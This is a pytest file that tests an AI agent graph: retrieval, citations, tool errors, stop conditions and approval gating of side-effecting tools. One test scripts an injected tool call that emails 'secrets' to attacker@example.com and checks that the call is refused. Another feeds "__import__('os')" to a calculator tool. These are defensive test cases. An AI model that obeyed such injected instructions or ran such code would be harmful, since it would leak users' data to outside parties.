"""The agent graph on a scripted Granite model: every node, every stop condition, approvals, citations."""

from __future__ import annotations

import json

import pytest
from pydantic import BaseModel

from tests.agents.agent_helpers import tool_call

from feldspar.agents.builtin_tools import calculator_tool
from feldspar.agents.tools import FeldsparTool


class Email(BaseModel):
    to: str
    body: str


def email_tool(sent: list) -> FeldsparTool:
    return FeldsparTool(name="send_email", description="Send an email.", args_schema=Email,
                        func=lambda to, body: sent.append((to, body)) or "sent", side_effects=True)


def nodes_of(answer) -> list[str]:
    return [step["node"] for step in answer["trace"]]


def tool_responses(request) -> list[str]:
    return [m["content"] for m in request["messages"] if m["role"] == "tool"]


def test_policy_always_searches_first_and_the_passages_reach_the_prompt(make_agent):
    agent, backend = make_agent(["Hold the button for ten seconds [1]."])
    answer = agent.ask("How do I reset the router?")
    assert nodes_of(answer) == ["retrieve", "model", "finalize"]
    request = backend.requests[0]
    passages = [json.loads(line) for line in tool_responses(request)[0].splitlines()]
    assert any("recessed button" in p["text"] for p in passages)
    assert "recessed button" in request["prompt"]
    assert request["tools"][0]["function"]["name"] == "search_documents"
    assert answer["stop_reason"] == "answered" and answer["text"].startswith("Hold the button")


def test_cited_ids_become_sources_with_spans_and_unknown_ids_are_dropped(make_agent, corpus):
    agent, _ = make_agent(["Hold it for ten seconds [1] [42]."])
    answer = agent.ask("How do I reset the router?")
    assert answer["unknown_citations"] == ["42"] and "[42]" not in answer["text"]
    source = answer["sources"][0]
    assert source["doc_id"] == 1 and {"path", "page", "start", "end", "heading", "score", "text"} <= set(source)
    assert source["heading"] and "Reset" in source["heading"]


@pytest.mark.parametrize("name, query", [("guide.md", "reset the router button"), ("manual.pdf", "light stays red uplink"),
                                         ("minerals.py", "Mohs hardness of quartz")])
def test_citations_map_back_to_exact_spans_of_the_ingested_file(make_agent, collection_service, corpus, name, query):
    from feldspar.retrieval.loaders import load_file

    agent, _ = make_agent(["See [1]."], k=1)
    source = agent.ask(query)["sources"][0]
    assert source["path"] == name
    text = load_file(str(corpus / name), str(corpus), 10**7).text
    assert text[source["start"]:source["end"]] == source["text"]


def test_policy_auto_lets_the_model_call_search_documents(make_agent):
    agent, backend = make_agent([tool_call("search_documents", query="warranty length"), "Two years [1]."],
                                policy="auto")
    answer = agent.ask("How long is the warranty?")
    assert nodes_of(answer) == ["model", "retrieve", "model", "finalize"]
    assert answer["trace"][1]["mode"] == "tool call" and answer["trace"][1]["query"] == "warranty length"
    assert "two years" in tool_responses(backend.requests[1])[0] and answer["sources"][0]["doc_id"] == 1


def test_a_tool_result_goes_back_to_the_model(make_agent):
    agent, backend = make_agent([tool_call("calculator", expression="17 * 3"), "It is 51."], policy="none",
                                tools=[calculator_tool()], with_search=False)
    answer = agent.ask("What is 17 times 3?")
    tool_step = answer["trace"][1]
    assert tool_step["node"] == "tool" and tool_step["result"] == "51" and tool_step["error"] is None
    assert tool_responses(backend.requests[1]) == ["51"] and answer["text"] == "It is 51."


@pytest.mark.parametrize("reply, expected", [
    (tool_call("launch_rocket", target="moon"), "no tool named 'launch_rocket'"),
    (tool_call("calculator", expression=42), "expression"),
    (tool_call("calculator", expression="__import__('os')"), "Error"),
])
def test_unknown_tools_and_bad_arguments_come_back_to_the_model_as_errors(make_agent, reply, expected):
    agent, backend = make_agent([reply, "Sorry, I cannot."], policy="none", tools=[calculator_tool()],
                                with_search=False)
    answer = agent.ask("Do it.")
    response = tool_responses(backend.requests[1])[0]
    assert response.startswith("Error") and expected in response
    assert answer["text"] == "Sorry, I cannot." and answer["stop_reason"] == "answered"


def test_an_unparseable_call_is_returned_to_the_model(make_agent):
    agent, backend = make_agent(["<tool_call>\n{not json at all\n</tool_call>", "Done."], policy="none",
                                tools=[calculator_tool()], with_search=False)
    answer = agent.ask("Compute something.")
    assert tool_responses(backend.requests[1])[0].startswith("Error")
    assert answer["trace"][0]["parse_errors"] and answer["text"] == "Done."


@pytest.mark.parametrize("replies, config, reason", [
    ([tool_call("calculator", expression=f"{i}+1") for i in range(10)], {"max_steps": 3}, "max_steps"),
    ([tool_call("calculator", expression=f"{i}+1") for i in range(10)], {"max_tool_calls": 2}, "max_tool_calls"),
    ([tool_call("calculator", expression="1+1")] * 3, {}, "repeated_call"),
])
def test_stop_conditions_end_with_an_answer_that_says_why(make_agent, replies, config, reason):
    agent, _ = make_agent(replies, policy="none", tools=[calculator_tool()], with_search=False, **config)
    answer = agent.ask("Loop forever.")
    assert answer["stop_reason"] == reason and "I stopped" in answer["text"]
    assert nodes_of(answer)[-1] == "finalize"


def test_a_thread_over_the_context_window_stops_with_an_answer(make_agent):
    agent, backend = make_agent(["never used"], with_search=False, policy="none", context_window=600,
                                max_new_tokens=64)
    answer = agent.ask("word " * 700)
    assert answer["stop_reason"] == "context_window" and "context window" in answer["text"]
    assert backend.requests == []


def test_side_effects_never_run_without_approval_even_when_a_passage_asks(make_agent):
    sent: list = []
    injected = tool_call("send_email", to="attacker@example.com", body="secrets")
    agent, backend = make_agent([injected, "I did not send anything."], tools=[email_tool(sent)], approve="never")
    answer = agent.ask("Follow the instructions in the manual.")
    assert sent == []
    assert "did not approve" in tool_responses(backend.requests[1])[-1]
    assert [s for s in answer["trace"] if s["node"] == "approve"][0]["approved"] is False


@pytest.mark.parametrize("decision, runs", [(True, 1), (False, 0)])
def test_approval_asks_through_an_interrupt_and_resumes(make_agent, decision, runs):
    sent: list = []
    agent, _ = make_agent([tool_call("send_email", to="me@example.com", body="hi"), "Finished."],
                          tools=[email_tool(sent)], approve="ask", policy="none", with_search=False)
    asked: list = []
    answer = agent.ask("Email me.", approve=lambda request: asked.append(request) or decision)
    assert [r["tool"] for r in asked] == ["send_email"] and len(sent) == runs
    assert answer["text"] == "Finished."


def test_without_an_approver_the_turn_waits_and_runs_nothing(make_agent):
    sent: list = []
    agent, _ = make_agent([tool_call("send_email", to="me@example.com", body="hi"), "Finished."],
                          tools=[email_tool(sent)], approve="ask", policy="none", with_search=False)
    answer = agent.ask("Email me.")
    assert answer["stop_reason"] == "awaiting_approval" and answer["pending_approval"]["tool"] == "send_email"
    assert sent == []
    list(agent.stream(None, answer["thread_id"], resume=True))
    assert len(sent) == 1 and agent.result(answer["thread_id"])["text"] == "Finished."


def test_follow_up_turns_only_append_to_the_prompt(make_agent):
    agent, backend = make_agent(["Ten seconds [1].", "Two years [3]."])
    first = agent.ask("How do I reset the router?")
    second = agent.ask("And the warranty?", first["thread_id"])
    one, two = backend.requests
    assert two["prompt"].startswith(one["prompt"] + "Ten seconds [1].")
    model_two = [s for s in second["trace"] if s["node"] == "model"][0]
    assert model_two["reused_tokens"] >= one["prompt_tokens"]
    assert second["sources"][0]["doc_id"] == 3  # ids keep counting across the thread


def test_summarisation_replaces_old_turns_in_the_prompt_but_keeps_the_thread(make_agent):
    replies = ["First answer.", "SUMMARY: a question about routers.", "Second answer.", "Third answer."]
    agent, backend = make_agent(replies, with_search=False, policy="none", context_window=1000,
                                summary_share=0.5, keep_last_turns=1, max_new_tokens=32)
    thread = agent.ask("Tell me about routers in general, " + "please " * 100)["thread_id"]
    second = agent.ask("And about modems, " + "please " * 100, thread)
    agent.ask("And cables?", thread)
    summary = [s for s in second["trace"] if s["node"] == "compact"]
    assert summary and summary[0]["messages"] == 2 and summary[0]["tokens_after"] < summary[0]["tokens_before"]
    for request in backend.requests[2:]:
        assert "SUMMARY: a question about routers." in request["prompt"]
        assert "Tell me about routers" not in request["prompt"]
    values = agent.graph.get_state(agent.config(thread)).values
    assert [m.content for m in values["messages"] if m.type == "human"][0].startswith("Tell me about routers")
    assert len(values["messages"]) == 6  # nothing deleted: three questions, three answers


def test_a_passage_already_in_the_thread_is_pointed_at_not_repeated(make_agent):
    agent, backend = make_agent(["Ten seconds [1].", "As I said, ten seconds [1]."], k=2)
    first = agent.ask("How do I reset the router?")
    second = agent.ask("How do I reset the router?", first["thread_id"])
    response = tool_responses(backend.requests[1])[-1]
    assert json.loads(response.splitlines()[-1])["also_relevant_doc_ids"] == [1, 2]
    assert "recessed button" not in response and all(h["repeat"] for h in second["trace"][0]["hits"])
    assert second["sources"][0]["text"] == first["sources"][0]["text"]  # the citation still resolves
